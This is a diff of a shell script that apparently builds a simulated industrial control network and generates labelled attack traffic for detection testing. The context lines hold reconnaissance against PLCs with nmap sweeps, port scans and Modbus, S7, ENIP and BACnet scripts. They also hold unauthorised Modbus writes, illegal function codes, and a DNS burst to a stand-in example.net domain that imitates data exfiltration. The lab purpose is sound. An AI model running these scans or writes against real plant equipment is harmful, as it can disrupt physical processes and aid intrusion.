@@ -146,7 +146,7 @@ unplugged() { port plc-pump down; sleep 46; port plc-pump up; sleep 2; }
 dns_burst() { for i in $(seq 40); do ns laptop dig +short +tries=1 +time=1 @$NET.2 "$(printf 'c2VjcmV0%04x' $((i * 1571))).t.example.net"; done; }
 icmp_sweep() { ns laptop nmap -n -sn -PE --disable-arp-ping --send-ip --max-retries 0 --host-timeout 3s --max-rate 100 $NET.1-120; }
 ics_scripts() {
-  ns laptop nmap -n -Pn -sT -p 502 --script modbus-discover --script-args modbus-discover.aggressive=false $NET.11 $NET.12
+  ns laptop nmap -n -Pn -sT -p 502 --script modbus-discover $NET.11 $NET.12
   ns laptop nmap -n -Pn -sT -p 102 --script s7-info $NET.21
   ns laptop nmap -n -Pn -sT -p 44818 --script enip-info $NET.41
   ns laptop nmap -n -Pn -sU -p 47808 --script bacnet-info $NET.51
@@ -158,7 +158,7 @@ incidents() {
   incident arp-sweep $L $NET.0/24 arp "nmap -sn: ARP requests for all 254 addresses" "host sweep" "$LM" ns laptop nmap -n -sn $NET.0/24
   incident icmp-sweep $L $NET.0/24 icmp "nmap -sn -PE: echo requests to .1-.120 (the kernel asks by ARP first; only living hosts see the ping)" "host sweep" "$LM" icmp_sweep
   incident port-scan $L $NET.11 tcp "nmap -sS of TCP ports 1-600 on a PLC" "port scan" "$M" ns laptop nmap -n -Pn -sS -p 1-600 -T4 $NET.11
-  incident ics-scripts $L $NET.11,$NET.12,$NET.21,$NET.41,$NET.51 "modbus,s7comm,enip,bacnet" "nmap modbus-discover (FC 17 and 43 on unit 1 and on), s7-info, enip-info, bacnet-info" "new talkers to PLCs, device identification asked by a stranger" "$LM" ics_scripts
+  incident ics-scripts $L $NET.11,$NET.12,$NET.21,$NET.41,$NET.51 "modbus,s7comm,enip,bacnet" "nmap modbus-discover (FC 17 and 43), s7-info, enip-info, bacnet-info" "new talkers to PLCs, device identification asked by a stranger" "$LM" ics_scripts
   incident modbus-write-new-host $L $NET.11 modbus "FC 5, 6, 16, 15 written by the laptop, all accepted" "write by a host that never wrote" "$M && tcp.port==502" ns laptop stacks/modbus_client.py write $NET.11
   incident modbus-new-range $NET.100 $NET.11 modbus "the known HMI reads holding registers 120-144, never read before, 5 times" "known host, new address range" "modbus.reference_num==120 || (modbus.func_code==3 && modbus.byte_cnt==50)" ns hmi stacks/modbus_client.py newrange $NET.11
   incident modbus-bad-functions $L $NET.11 modbus "requests with FC 0, 100, 9 and 0x83 (a request that looks like an exception), each on its own connection" "illegal function codes" "$M && tcp.port==502" ns laptop stacks/modbus_raw.py functions $NET.11
@@ -190,7 +190,7 @@ lease hmi HMI-LINE1 "MSFT 5.0"; lease eng ENG-WS01 "MSFT 5.0"
 background
 sleep 20; ns eng node stacks/s7_client.js ident $NET.21 >"$WORK/log/eng-s7" 2>&1
 sleep 5; ns eng stacks/modbus_client.py ident $NET.11 >"$WORK/log/eng-ident1" 2>&1; ns eng stacks/modbus_client.py ident $NET.12 >"$WORK/log/eng-ident2" 2>&1
-left=$(echo "$(now) $START $QUIET" | awk '{d = $3 - ($1 - $2); print d > 0 ? d : 0}'); sleep "$left"
+left=$(echo "$(now) $START $QUIET" | awk '{d = $3 - ($1 - $2); print (d > 0 ? d : 0)}'); sleep "$left"
 SPLIT=$(now); incidents; sleep 1
 clean; trap - EXIT
 { printf 'name\tmac\tip\trole\tvendor\tstack\tserves\tuses\n'; hosts | tr '|' '\t'; } >hosts.tsv
